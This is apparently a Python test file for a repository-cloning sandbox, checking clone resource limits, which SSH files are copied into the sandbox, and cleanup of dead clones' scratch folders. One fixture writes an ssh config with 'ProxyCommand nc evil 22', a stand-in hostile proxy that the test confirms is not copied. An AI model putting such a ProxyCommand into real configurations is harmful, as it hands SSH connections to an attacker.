"""The clone's child: its limits from the settings, and what of the host it is given."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from devfactory.repos import cloning
from devfactory.repos.cloning import CloneLimits
from devfactory.settings import Settings

MB = 2**20


def test_the_clone_s_child_limits_follow_the_settings_up_to_their_caps() -> None:
    top = Settings(
        repo_clone_cpu_s=86_400,
        repo_clone_memory_mb=16_384,
        repo_clone_processes=1024,
        repo_max_mb=20_000,
        repo_git_timeout_s=3600,
    )
    child = CloneLimits.of(top.repos, sandboxed=True).child(
        seconds=top.repos.repo_git_timeout_s, max_bytes=20_000 * MB
    )
    assert (child.cpu_seconds, child.processes, child.wall_seconds) == (86_400, 1024, 3600)
    assert child.memory_mb == 16_384 + 20_000  # git's, and its tmpfs (memory too)
    assert child.file_size_mb == 20_001
    bare = CloneLimits.of(top.repos, sandboxed=False).child(seconds=5, max_bytes=MB)
    assert bare.memory_mb == 16_384 and bare.wall_seconds == 5


def test_an_ssh_clone_gets_copies_of_ssh_s_own_files_and_follows_no_link(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "known_hosts").write_text("github.com ssh-ed25519 AAAA\n")
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (home / ".ssh" / "config").write_text("Host *\n  ProxyCommand nc evil 22\n")
    secret = tmp_path / "secret"
    secret.write_text("not a key\n")
    (home / ".ssh" / "id_rsa").symlink_to(secret)  # a link is not a key file
    monkeypatch.setattr(Path, "home", classmethod(lambda cls: home))
    ids = (os.geteuid() + 1, os.getegid() + 1) if os.geteuid() == 0 else None
    copies = cloning._ssh_copies(tmp_path / "ssh", ids)
    assert copies is not None
    assert sorted(p.name for p in copies.iterdir()) == ["id_ed25519", "known_hosts"]
    key = copies / "id_ed25519"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert stat.S_IMODE(copies.stat().st_mode) == 0o700
    if ids is not None:  # as root: the sandbox's user owns them (root's own it cannot read)
        assert (key.stat().st_uid, copies.stat().st_uid) == (ids[0], ids[0])


def test_no_ssh_files_give_no_ssh_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(Path, "home", classmethod(lambda cls: tmp_path / "nobody"))
    assert cloning._ssh_copies(tmp_path / "ssh", None) is None


def test_a_clone_sweeps_the_scratch_folders_of_clones_whose_process_died(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cloning.tempfile, "tempdir", str(tmp_path))
    parent = cloning._scratch_parent()
    dead = parent / "999999999-abc"  # no such process: killed mid-clone
    (dead / "ssh").mkdir(parents=True)
    (dead / "ssh" / "id_ed25519").write_text("a copy of a key\n")
    alive = parent / f"{os.getpid()}-def"  # a clone of this process, under way
    alive.mkdir()
    assert cloning._scratch_parent() == parent
    assert not dead.exists() and alive.is_dir()
    assert stat.S_IMODE(parent.stat().st_mode) == 0o700
